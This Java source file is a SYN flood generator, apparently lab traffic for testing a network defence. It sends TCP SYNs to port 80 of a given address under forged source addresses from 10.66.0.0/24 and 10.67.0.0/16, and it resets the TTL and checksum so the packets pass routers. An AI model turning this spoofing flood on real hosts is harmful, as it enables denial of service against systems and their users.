package dev.weir.lab.traffic;

import dev.weir.gre.Verdict;
import dev.weir.gre.device.DeviceException;
import dev.weir.gre.device.TunDevice;
import dev.weir.gre.probe.TcpExchange;
import java.io.IOException;
import java.net.Inet4Address;
import java.nio.ByteBuffer;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.locks.LockSupport;

/// A program that sends SYNs under forged addresses, as fast as it can: `ADDRESS COUNT`. They come
/// out of a TUN of its namespace, which has to forward.
///
/// Half of them come from one network of 256 addresses, the others from 256 of them. It writes
/// `ready`, begins with a line of standard input, and says how many it has sent.
public final class SynFlood {
  /// The device.
  public static final String DEVICE = "flood0";

  private static final int ONE_NETWORK = 0x0A42_0000; // 10.66.0.0
  private static final int MANY_NETWORKS = 0x0A43_0000; // 10.67.0.0/16
  private static final int HEADER_OCTETS = 20;
  private static final int TTL_AT = 8;
  private static final int CHECKSUM_AT = 10;
  private static final byte TTL = 64;

  private SynFlood() {}

  /// Floods.
  static void main(String... words) throws IOException, DeviceException {
    int origin = ByteBuffer.wrap(Inet4Address.ofLiteral(words[0]).getAddress()).getInt();
    var random = ThreadLocalRandom.current();
    var packet = ByteBuffer.allocateDirect(TcpExchange.PACKET_OCTETS_MAX);
    long sent = 0;
    try (var tun = TunDevice.open(DEVICE)) {
      System.out.println("ready");
      System.in.read();
      for (int i = 0; i < Integer.parseInt(words[1]); i++) {
        int source =
            i % 2 == 0 ? ONE_NETWORK + random.nextInt(256) : MANY_NETWORKS + random.nextInt(65_536);
        var flow = new TcpExchange.Flow(source, 1024 + random.nextInt(60_000), origin, 80);
        new TcpExchange(flow, random.nextInt(), new TcpExchange.Question("", "")).call(packet);
        throughRouters(packet);
        if (tun.write(packet, 0, packet.limit()) == Verdict.DELIVER) {
          sent++;
        } else {
          LockSupport.parkNanos(100_000);
        }
      }
      System.out.println(sent);
      System.in.read();
    }
  }

  /// The packet of a self-test ends at the first router; this one does not.
  private static void throughRouters(ByteBuffer packet) {
    packet.put(TTL_AT, TTL).putShort(CHECKSUM_AT, (short) 0);
    int sum = 0;
    for (int at = 0; at < HEADER_OCTETS; at += Short.BYTES) {
      sum += Short.toUnsignedInt(packet.getShort(at));
    }
    packet.putShort(CHECKSUM_AT, (short) ~((sum & 0xFFFF) + (sum >>> 16)));
  }
}
